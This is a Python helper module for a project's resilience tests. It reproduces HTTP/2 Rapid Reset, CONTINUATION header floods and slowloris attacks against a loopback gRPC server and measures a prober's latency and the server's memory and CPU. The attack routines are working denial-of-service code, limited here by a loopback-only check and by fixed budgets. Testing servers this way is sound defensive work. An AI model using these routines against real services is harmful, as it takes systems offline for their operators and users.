"""Bounded loopback attack helpers for the resilience tests (issue 19).

Purpose: reproduce, on 127.0.0.0/8 only and with a fixed budget of frames, connections and
seconds, the denial-of-service patterns that gRPC core 1.51.1 and the ops port were shown to
suffer from, and measure what a well-behaved client on another address sees meanwhile:

- rapid_reset: HEADERS immediately followed by RST_STREAM(CANCEL), in batches, on one
  connection (CVE-2023-44487);
- header_flood: one HEADERS frame without END_HEADERS and then CONTINUATION frames carrying a
  single multi-MiB header value, on several connections (CVE-2023-33953's HPACK vectors);
- slow_http: many HTTP/1.1 connections that each dribble one header line per second and never
  finish the request (slowloris);
- HealthProber / HttpProber: a steady Health/Check or GET from 127.0.0.1 recording latencies;
- ProcSampler: the resident size and CPU time of a process, read from /proc.

Design: raw frames are written by hand (the protocol pieces are small) so the attacker is
not throttled by a client library's flow control; a reader thread per connection drains what
the peer sends and acknowledges SETTINGS, so the peer never stalls on us. The attacker binds
its source address (default 127.0.0.2) so per-address limits can tell it from the prober.

Invariants: every loop has a count and a deadline; every socket is closed on return; only
loopback addresses are accepted as targets.
"""

import os
import socket
import ssl
import struct
import threading
import time
import urllib.request

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL = 0x8


def _check_loopback(host):
    if not host.startswith("127."):
        raise ValueError("attack targets must be loopback, not %r" % host)


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", ftype, flags, sid) + payload


def hpack_int(value, prefix_bits, first=0):
    """RFC 7541 5.1 integer with an N-bit prefix; `first` holds the bits above the prefix."""
    top = (1 << prefix_bits) - 1
    if value < top:
        return bytes([first | value])
    out = bytearray([first | top])
    value -= top
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_literal(name, value):
    """Literal header field without indexing, new name, no Huffman (RFC 7541 6.2.2)."""
    return (b"\x00" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value)


def grpc_request_block(path=b"/grpc.health.v1.Health/Check", authority=b"127.0.0.1"):
    """A stateless (no dynamic table) header block for a gRPC POST."""
    return b"".join(hpack_literal(n, v) for n, v in (
        (b":method", b"POST"), (b":scheme", b"http"), (b":path", path),
        (b":authority", authority), (b"content-type", b"application/grpc"), (b"te", b"trailers")))


class _Tls:
    """TLS over a connected socket through memory BIOs, so a reader thread and writers can
    share one connection: an ssl.SSLSocket must not be read, written and closed from
    different threads at once (OpenSSL objects are not thread-safe; it crashed the attack
    tests that run several attacks at once). The SSLObject is only touched under `lock`;
    `wlock` keeps encrypted records in the order they were made; socket I/O happens outside
    `lock`, and close() shuts the socket down before anything is freed."""

    def __init__(self, raw, ctx, hostname):
        self.raw = raw
        self.inc, self.out = ssl.MemoryBIO(), ssl.MemoryBIO()
        self.obj = ctx.wrap_bio(self.inc, self.out, server_hostname=hostname)
        self.lock = threading.Lock()
        self.wlock = threading.Lock()
        while True:
            with self.lock:
                try:
                    self.obj.do_handshake()
                    done = True
                except ssl.SSLWantReadError:
                    done = False
                pending = self.out.read()
            if pending:
                self.raw.sendall(pending)
            if done:
                return
            self._feed()

    def _feed(self):
        data = self.raw.recv(65536)
        if not data:
            raise EOFError
        with self.lock:
            self.inc.write(data)

    def sendall(self, data):
        with self.wlock:
            with self.lock:
                self.obj.write(data)
                pending = self.out.read()
            self.raw.sendall(pending)

    def recv(self, n):
        while True:
            with self.lock:
                try:
                    return self.obj.read(n)
                except ssl.SSLWantReadError:
                    pass
                except ssl.SSLZeroReturnError:
                    return b""
            try:
                self._feed()
            except EOFError:
                return b""

    def shutdown(self, how):
        self.raw.shutdown(how)

    def close(self):
        self.raw.close()


class H2Conn:
    """One raw HTTP/2 connection from `source` with a draining reader thread."""

    def __init__(self, host, port, source="127.0.0.2", tls_ca=None, timeout=5.0):
        _check_loopback(host)
        raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        raw.settimeout(timeout)
        raw.bind((source, 0))
        raw.connect((host, port))
        if tls_ca is not None:
            ctx = ssl.create_default_context(cafile=tls_ca)
            ctx.set_alpn_protocols(["h2"])
            try:
                raw = _Tls(raw, ctx, "localhost")
            except EOFError:
                raw.close()
                raise ConnectionResetError("TLS handshake: connection closed")
        self.sock = raw
        self.lock = threading.Lock()
        self.closed = threading.Event()
        self.goaway = None
        self.rst_received = 0
        self.bytes_in = 0
        self.send(PREFACE + frame(SETTINGS, 0, 0))
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()

    def send(self, data):
        with self.lock:
            self.sock.sendall(data)

    def _recv_exact(self, n):
        buf = b""
        while len(buf) < n:
            chunk = self.sock.recv(n - len(buf))
            if not chunk:
                raise EOFError
            buf += chunk
        return buf

    def _read(self):
        try:
            while True:
                head = self._recv_exact(9)
                length = struct.unpack(">I", b"\x00" + head[:3])[0]
                ftype, flags = head[3], head[4]
                payload = self._recv_exact(length) if length else b""
                self.bytes_in += 9 + length
                if ftype == SETTINGS and not flags & ACK:
                    self.send(frame(SETTINGS, ACK, 0))
                elif ftype == PING and not flags & ACK:
                    self.send(frame(PING, ACK, 0, payload))
                elif ftype == GOAWAY:
                    self.goaway = struct.unpack(">II", payload[:8])
                elif ftype == RST_STREAM:
                    self.rst_received += 1
        except (OSError, EOFError, ValueError):
            pass
        finally:
            self.closed.set()

    def close(self):
        # Wake the reader first, and free the socket only once it has let go.
        try:
            self.sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self._reader.join(timeout=2)
        try:
            self.sock.close()
        except OSError:
            pass


def rapid_reset(host, port, pairs=10000, batch=100, source="127.0.0.2", tls_ca=None,
                deadline_s=20.0, connections=1):
    """Open-then-RST_STREAM pairs on `connections` connections (pairs each), sent in batches.
    Returns a dict: pairs sent, seconds, GOAWAYs seen, connections that closed early."""
    block = grpc_request_block()
    result = {"sent": 0, "goaway": 0, "closed_early": 0, "seconds": 0.0}
    lock = threading.Lock()
    t0 = time.monotonic()

    def one():
        sent = 0
        try:
            c = H2Conn(host, port, source, tls_ca)
        except OSError:
            with lock:
                result["closed_early"] += 1
            return
        sid = 1
        try:
            while sent < pairs and time.monotonic() - t0 < deadline_s and not c.closed.is_set():
                n = min(batch, pairs - sent)
                out = bytearray()
                for _ in range(n):
                    out += frame(HEADERS, END_HEADERS, sid, block)
                    out += frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL))
                    sid += 2
                c.send(bytes(out))
                sent += n
        except OSError:
            pass
        finally:
            early = c.closed.is_set() or sent < pairs
            time.sleep(0.2)
            with lock:
                result["sent"] += sent
                result["goaway"] += 1 if c.goaway else 0
                result["closed_early"] += 1 if early else 0
            c.close()

    threads = [threading.Thread(target=one, daemon=True) for _ in range(connections)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=deadline_s + 10)
    result["seconds"] = round(time.monotonic() - t0, 2)
    return result


def header_flood(host, port, connections=8, value_bytes=8 << 20, frame_bytes=16384,
                 source="127.0.0.2", tls_ca=None, deadline_s=20.0):
    """Each connection: HEADERS (no END_HEADERS) opening one literal header whose value is
    value_bytes long, then CONTINUATION frames with the value until it is all sent, the peer
    closes, or the deadline passes. Returns bytes sent in total and connections cut short."""
    result = {"bytes": 0, "cut": 0, "seconds": 0.0}
    lock = threading.Lock()
    t0 = time.monotonic()
    chunk = b"a" * frame_bytes

    def one():
        sent = 0
        try:
            c = H2Conn(host, port, source, tls_ca)
        except OSError:
            with lock:
                result["cut"] += 1
            return
        try:
            head = grpc_request_block() + b"\x00" + hpack_int(6, 7) + b"x-blob" + hpack_int(
                value_bytes, 7)
            c.send(frame(HEADERS, 0, 1, head))
            while (sent < value_bytes and time.monotonic() - t0 < deadline_s
                   and not c.closed.is_set()):
                n = min(frame_bytes, value_bytes - sent)
                c.send(frame(CONTINUATION, END_HEADERS if sent + n >= value_bytes else 0, 1,
                             chunk[:n]))
                sent += n
        except OSError:
            pass
        finally:
            with lock:
                result["bytes"] += sent
                result["cut"] += 1 if sent < value_bytes else 0
            c.close()

    threads = [threading.Thread(target=one, daemon=True) for _ in range(connections)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=deadline_s + 10)
    result["seconds"] = round(time.monotonic() - t0, 2)
    return result


class SlowHttp:
    """`count` HTTP/1.1 connections from `source` that send one header line per second and
    never end the request; a refused or closed connection is reopened (at most once a
    second each) until stop()."""

    def __init__(self, host, port, count=1000, source="127.0.0.2"):
        _check_loopback(host)
        self.host, self.port, self.count, self.source = host, port, count, source
        self.stop_ev = threading.Event()
        self.opened = 0
        self.reopened = 0
        self.alive = 0
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _open(self):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        s.bind((self.source, 0))
        try:
            s.connect((self.host, self.port))
        except BlockingIOError:
            pass
        except OSError:
            s.close()
            return None
        return [s, b"GET /healthz HTTP/1.1\r\nHost: x\r\n"]

    def _run(self):
        conns = []
        for _ in range(self.count):
            if self.stop_ev.is_set():
                break
            c = self._open()
            if c:
                conns.append(c)
                self.opened += 1
        while not self.stop_ev.wait(1.0):
            live = 0
            for i, c in enumerate(conns):
                if c is None:
                    c = conns[i] = self._open()
                    if c is None:
                        continue
                    self.reopened += 1
                try:
                    c[0].send(c[1])
                    c[1] = b"X-Slow: %d\r\n" % i
                    live += 1
                except BlockingIOError:
                    live += 1
                except OSError:
                    c[0].close()
                    conns[i] = None
            self.alive = live
        for c in conns:
            if c:
                c[0].close()

    def start(self):
        self._thread.start()
        return self

    def stop(self):
        self.stop_ev.set()
        self._thread.join(timeout=10)


def percentile(values, p):
    if not values:
        return float("inf")
    v = sorted(values)
    k = min(len(v) - 1, max(0, int(round(p / 100.0 * len(v) + 0.5)) - 1))
    return v[k]


class _Prober:
    """Runs probe() every interval_s on a thread; a failure counts as timeout_s."""

    def __init__(self, interval_s=0.05, timeout_s=2.0):
        self.interval_s, self.timeout_s = interval_s, timeout_s
        self.latencies_ms = []
        self.failures = 0
        self.stop_ev = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _run(self):
        while not self.stop_ev.is_set():
            t = time.monotonic()
            ok = False
            try:
                ok = self.probe()
            except Exception:  # noqa: BLE001 - any failure is a failed probe
                ok = False
            ms = (time.monotonic() - t) * 1000.0
            if not ok:
                self.failures += 1
                ms = max(ms, self.timeout_s * 1000.0)
            self.latencies_ms.append(ms)
            self.stop_ev.wait(max(0.0, self.interval_s - (time.monotonic() - t)))

    def start(self):
        self._thread.start()
        return self

    def stop(self):
        self.stop_ev.set()
        self._thread.join(timeout=self.timeout_s + 5)
        return self.summary()

    def summary(self):
        lat = self.latencies_ms
        return {"n": len(lat), "failures": self.failures,
                "p50_ms": round(percentile(lat, 50), 1), "p99_ms": round(percentile(lat, 99), 1),
                "max_ms": round(max(lat), 1) if lat else None}


class HealthProber(_Prober):
    """grpc.health.v1.Health/Check from 127.0.0.1 over one long-lived channel (a fresh one
    after a failure), as a load balancer's checker would."""

    def __init__(self, target, tls_ca=None, **kw):
        super().__init__(**kw)
        import grpc  # Debian's python3-grpcio
        from twserver import health_stubs
        self._grpc, self._stubs, self.target, self.tls_ca = grpc, health_stubs, target, tls_ca
        self._channel = None

    def _check(self):
        if self._channel is None:
            if self.tls_ca:
                with open(self.tls_ca, "rb") as f:
                    creds = self._grpc.ssl_channel_credentials(f.read())
                self._channel = self._grpc.secure_channel(
                    self.target, creds, options=[("grpc.ssl_target_name_override", "localhost")])
            else:
                self._channel = self._grpc.insecure_channel(self.target)
            self._check_fn, _ = self._stubs(self._channel)
        return self._check_fn

    def probe(self):
        from twserver import grpc_protos
        req = grpc_protos()["health"].HealthCheckRequest()
        try:
            resp = self._check()(req, timeout=self.timeout_s)
            return resp.status == 1
        except self._grpc.RpcError:
            self._channel.close()
            self._channel = None
            return False

    def stop(self):
        s = super().stop()
        if self._channel is not None:
            self._channel.close()
        return s


class HttpProber(_Prober):
    """GET url from 127.0.0.1 with a fresh connection each time; ok = the expected status."""

    def __init__(self, url, expect=200, **kw):
        super().__init__(**kw)
        self.url, self.expect = url, expect
        self._opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))

    def probe(self):
        try:
            with self._opener.open(self.url, timeout=self.timeout_s) as r:
                return r.status == self.expect
        except urllib.error.HTTPError as e:
            return e.code == self.expect
        except OSError:
            return False


class ProcSampler:
    """Samples a PID's VmRSS (kB) and utime+stime (s) every interval_s until stop()."""

    def __init__(self, pid, interval_s=0.1):
        self.pid, self.interval_s = pid, interval_s
        self.tick = os.sysconf("SC_CLK_TCK")
        self.base_rss_kb = self.rss_kb()
        self.base_cpu_s = self.cpu_s()
        self.peak_rss_kb = self.base_rss_kb
        self.stop_ev = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def rss_kb(self):
        try:
            with open("/proc/%d/status" % self.pid) as f:
                for line in f:
                    if line.startswith("VmRSS:"):
                        return int(line.split()[1])
        except OSError:
            pass
        return 0

    def cpu_s(self):
        try:
            with open("/proc/%d/stat" % self.pid) as f:
                fields = f.read().rsplit(")", 1)[1].split()
            return (int(fields[11]) + int(fields[12])) / self.tick
        except (OSError, IndexError, ValueError):
            return 0.0

    def _run(self):
        while not self.stop_ev.wait(self.interval_s):
            self.peak_rss_kb = max(self.peak_rss_kb, self.rss_kb())

    def start(self):
        self._thread.start()
        return self

    def stop(self):
        self.stop_ev.set()
        self._thread.join(timeout=5)
        return {"rss_growth_mb": round((self.peak_rss_kb - self.base_rss_kb) / 1024.0, 1),
                "cpu_s": round(self.cpu_s() - self.base_cpu_s, 2)}
